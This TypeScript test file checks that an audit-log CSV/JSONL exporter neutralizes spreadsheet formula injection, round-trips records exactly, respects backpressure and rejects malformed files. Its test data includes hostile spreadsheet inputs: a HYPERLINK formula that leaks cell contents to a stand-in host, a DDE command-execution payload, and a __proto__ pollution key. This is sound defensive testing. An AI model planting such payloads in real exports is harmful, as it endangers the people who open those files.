/**
 * The export file formats: formula neutralization is exactly reversible,
 * and parsing a written export gives back exactly the records written (so
 * their hashes still verify), for random records full of hostile strings;
 * no written CSV cell can start a formula; writers respect backpressure; and
 * malformed files are refused with a clear error.
 */
import { Writable } from 'node:stream';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../base/errors.js';
import {
  neutralize,
  parseCsvExport,
  parseJsonlExport,
  restore,
  writeCsvExport,
  writeJsonlExport,
  type RecordSource,
} from './csv.js';
import { canonicalJson } from '../crypto/index.js';
import { AUDIT_COLUMNS, eventHash, type AuditRecord } from './event.js';

const EVIL = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '=1+1',
  '\t=1',
  '\r=1',
  '\n',
  '\r\n',
  '"',
  '""',
  ',',
  ';=1',
  "'",
  "''=1",
  '\uff1d1+1',
  '\ufeff',
  '\u2028',
  'é',
  '日本語',
  '😀',
  ' ',
  '__proto__',
  'null',
];
const evil = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.string({ unit: 'binary-ascii', maxLength: 12 }),
  fc
    .array(
      fc.oneof(fc.constantFrom(...EVIL), fc.string({ unit: 'grapheme-ascii', maxLength: 4 })),
      {
        maxLength: 4,
      },
    )
    .map((parts) => parts.join('')),
);
const nullable = fc.option(evil, { nil: null });
const dict = <T>(values: fc.Arbitrary<T>) =>
  fc.dictionary(evil, values, { maxKeys: 4, noNullPrototype: true });

// What the database can hold in metadata: JSON whose numbers are safe integers.
const { json } = fc.letrec<{ json: unknown }>((tie) => ({
  json: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    evil,
    fc.maxSafeInteger(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('json'), { maxLength: 3 }),
    dict(tie('json')),
  ),
}));

const record: fc.Arbitrary<AuditRecord> = fc.record({
  tenant_id: fc.uuid(),
  seq: fc.integer({ min: 1, max: Number.MAX_SAFE_INTEGER }),
  occurred_at: evil,
  actor_type: evil,
  actor_id: nullable,
  actor_name: nullable,
  action: evil,
  targets: fc.array(fc.record({ type: evil, id: nullable }), { maxLength: 3 }),
  context: dict(evil),
  correlation_id: nullable,
  metadata: dict(json),
  prev_hash: evil,
  hash: evil,
});

class Collector extends Writable {
  readonly chunks: Buffer[] = [];
  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.chunks.push(chunk);
    done();
  }
  get bytes(): Buffer {
    return Buffer.concat(this.chunks);
  }
}

async function written(
  write: (records: RecordSource, sink: Writable) => Promise<void>,
  records: RecordSource,
): Promise<Buffer> {
  const sink = new Collector();
  await write(records, sink);
  return sink.bytes;
}

async function collect<T>(items: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const item of items) out.push(item);
  return out;
}

/** Splits bytes into small chunks (cutting through multi-byte characters). */
function chunked(bytes: Buffer, size = 7): Buffer[] {
  const out: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) out.push(bytes.subarray(i, i + size));
  return out;
}

async function refused(parsed: AsyncIterable<AuditRecord>): Promise<string> {
  try {
    await collect(parsed);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('validation_failed');
    return (error as AppError).message;
  }
  throw new Error('the input was accepted');
}

const sample: AuditRecord = {
  tenant_id: '0b0e5f0e-8c4a-4c1e-9a7e-2f9d7f3b6a11',
  seq: 7,
  occurred_at: '2026-01-02T03:04:05.123456Z',
  actor_type: 'api_token',
  actor_id: "=cmd|' /C calc'!A0",
  actor_name: '-Mallory',
  action: 'workroom.created',
  targets: [{ type: 'workroom', id: '+1' }],
  context: { ip: '127.0.0.1', user_agent: '@agent' },
  correlation_id: '',
  metadata: { note: "=cmd|' /C calc'!A0", n: 3, nested: { list: ['=1', null, true] } },
  prev_hash: 'a'.repeat(64),
  hash: 'b'.repeat(64),
};

describe('neutralize / restore', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'quoted", "''quoted"],
    ['\uff1d1', "'\uff1d1"],
    ['plain', 'plain'],
    ['1-2', '1-2'],
    ['', ''],
    [' =1', ' =1'],
  ])('%j → %j', (input, output) => {
    expect(neutralize(input)).toBe(output);
    expect(restore(output)).toBe(input);
  });

  it('is exactly reversible for any string', () => {
    fc.assert(
      fc.property(fc.oneof(evil, fc.string({ unit: 'binary' })), (s) => {
        expect(restore(neutralize(s))).toBe(s);
      }),
      { numRuns: 2000 },
    );
  });

  it('never leaves a formula start in front', () => {
    fc.assert(
      fc.property(evil, (s) => {
        expect(neutralize(s)).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('CSV export', () => {
  it('writes a BOM, a quoted header of AUDIT_COLUMNS, CRLF records and neutralized cells', async () => {
    const text = (await written(writeCsvExport, [sample])).toString('utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const [header, row, end] = text.slice(1).split('\r\n');
    expect(header).toBe(AUDIT_COLUMNS.map((c) => `"${c}"`).join(','));
    expect(end).toBe('');
    expect(row).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(row).toContain(`"'-Mallory"`);
    expect(row).toContain(`"7"`);
    // Canonical JSON: keys sorted, no spaces; its cell starts with `{` so needs no escape.
    expect(row).toContain(
      `"{""n"":3,""nested"":{""list"":[""=1"",null,true]},""note"":""=cmd|' /C calc'!A0""}"`,
    );
    expect(row).toContain(`"[{""id"":""+1"",""type"":""workroom""}]"`);
    // The empty correlation id (a nullable column) is a lone apostrophe.
    expect(row).toContain(`,"'",`);
    expect(await collect(parseCsvExport([text]))).toEqual([sample]);
  });

  it('writes null as an empty cell and "" (in nullable columns) as a lone apostrophe', async () => {
    const nulls = { ...sample, actor_id: null, actor_name: '', correlation_id: null };
    const text = (await written(writeCsvExport, [nulls])).toString('utf8');
    expect(text).toContain(`"api_token",,"'","workroom.created"`);
    expect(await collect(parseCsvExport([text]))).toEqual([nulls]);
    const empties = { ...sample, actor_id: '', actor_name: "'", action: '' };
    const back = await collect(parseCsvExport([await written(writeCsvExport, [empties])]));
    expect(back).toEqual([empties]);
  });

  it('round-trips random records with hostile strings exactly', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(record, { maxLength: 8 }), async (records) => {
        const bytes = await written(writeCsvExport, records);
        expect(await collect(parseCsvExport(chunked(bytes)))).toEqual(records);
      }),
      { numRuns: 300 },
    );
  });

  it('never writes a cell a spreadsheet would read as a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 5 }), async (records) => {
        const bytes = await written(writeCsvExport, records);
        const cells: string[][] = parse(bytes, { bom: true });
        expect(cells).toHaveLength(records.length + 1);
        for (const cell of cells.flat()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
        }
      }),
      { numRuns: 200 },
    );
  });

  it('refuses malformed files', async () => {
    const good = (await written(writeCsvExport, [sample])).toString('utf8');
    const [header, row] = good.split('\r\n') as [string, string];
    expect(await refused(parseCsvExport(['"a","b"\r\n']))).toMatch(/header/);
    expect(await refused(parseCsvExport([`${header}\r\n"x","7"\r\n`]))).toMatch(
      /cannot be read|cells/,
    );
    expect(
      await refused(parseCsvExport([`${header}\r\n${row.replace('"7"', '"7.5"')}\r\n`])),
    ).toMatch(/row 1: seq/);
    expect(
      await refused(parseCsvExport([`${header}\r\n${row.replace('"[{', '"[x{')}\r\n`])),
    ).toMatch(/row 1: targets is not JSON/);
    expect(await refused(parseCsvExport([`${header}\r\n"unterminated\r\n`]))).toMatch(
      /cannot be read/,
    );
  });

  it('passes a read error of the input on', async () => {
    async function* failing(): AsyncGenerator<string> {
      yield '"tenant_id"';
      await Promise.resolve();
      throw new Error('disk on fire');
    }
    expect(await refused(parseCsvExport(failing()))).toMatch(/disk on fire/);
  });
});

describe('JSONL export', () => {
  it('writes one record per line, as selected', async () => {
    const text = (await written(writeJsonlExport, [sample, { ...sample, seq: 8 }])).toString();
    const lines = text.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toBe(JSON.stringify(sample));
    expect(lines[2]).toBe('');
  });

  it('round-trips random records exactly', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(record, { maxLength: 8 }), async (records) => {
        const bytes = await written(writeJsonlExport, records);
        expect(await collect(parseJsonlExport(chunked(bytes)))).toEqual(records);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses lines that are not export records', async () => {
    const line = JSON.stringify(sample);
    expect(await refused(parseJsonlExport([`${line}\nnot json\n`]))).toMatch(/line 2 is not JSON/);
    const missing = Object.fromEntries(Object.entries(sample).filter(([k]) => k !== 'hash'));
    expect(await refused(parseJsonlExport([JSON.stringify(missing)]))).toMatch(
      /missing field hash/,
    );
    expect(await refused(parseJsonlExport([JSON.stringify({ ...sample, extra: 1 })]))).toMatch(
      /unknown field extra/,
    );
    expect(await refused(parseJsonlExport([JSON.stringify({ ...sample, seq: '7' })]))).toMatch(
      /seq/,
    );
    expect(await refused(parseJsonlExport([JSON.stringify({ ...sample, targets: {} })]))).toMatch(
      /targets is not an array/,
    );
    expect(await refused(parseJsonlExport([JSON.stringify({ ...sample, actor_id: 1 })]))).toMatch(
      /actor_id/,
    );
  });

  it('keeps a __proto__ key as data', async () => {
    const tricky = JSON.parse(
      JSON.stringify(sample).replace('"n":3', '"__proto__":{"admin":true},"n":3'),
    ) as AuditRecord;
    expect(Object.keys(tricky.metadata)).toContain('__proto__');
    for (const write of [writeJsonlExport, writeCsvExport]) {
      const bytes = await written(write, [tricky]);
      const parse = write === writeCsvExport ? parseCsvExport : parseJsonlExport;
      const [back] = await collect(parse([bytes]));
      expect(Object.keys(back!.metadata)).toContain('__proto__');
      expect(canonicalJson(back)).toBe(canonicalJson(tricky));
      expect(eventHash(back!)).toBe(eventHash(tricky));
    }
  });
});

describe('backpressure', () => {
  /** A sink that takes a while per chunk; records how many records the source ran ahead of it. */
  async function maxLead(
    write: (records: RecordSource, sink: Writable) => Promise<void>,
  ): Promise<{ lead: number; bytes: number; received: number }> {
    const total = 20_000;
    let produced = 0;
    let received = 0;
    let bytes = 0;
    let lead = 0;
    function* source(): Generator<AuditRecord> {
      for (let seq = 1; seq <= total; seq++) {
        produced += 1;
        yield { ...sample, seq };
      }
    }
    const sink = new Writable({
      highWaterMark: 4096,
      write(chunk: Buffer, _encoding, done) {
        bytes += chunk.length;
        // Every record ends in one LF (JSONL) or CRLF (CSV; the sample holds no line breaks).
        for (const byte of chunk) if (byte === 0x0a) received += 1;
        lead = Math.max(lead, produced - received);
        setImmediate(done);
      },
    });
    await write(source(), sink);
    return { lead, bytes, received };
  }

  it.each([
    ['jsonl', writeJsonlExport, 20_000],
    ['csv', writeCsvExport, 20_001],
  ] as const)('%s: the source never runs far ahead of a slow sink', async (_name, write, lines) => {
    const { lead, bytes, received } = await maxLead(write);
    expect(received).toBe(lines);
    expect(bytes).toBeGreaterThan(5_000_000);
    // Bounded by the writers' chunk size and stream buffers (a few hundred
    // records), not by the size of the export.
    expect(lead).toBeLessThan(500);
  });
});
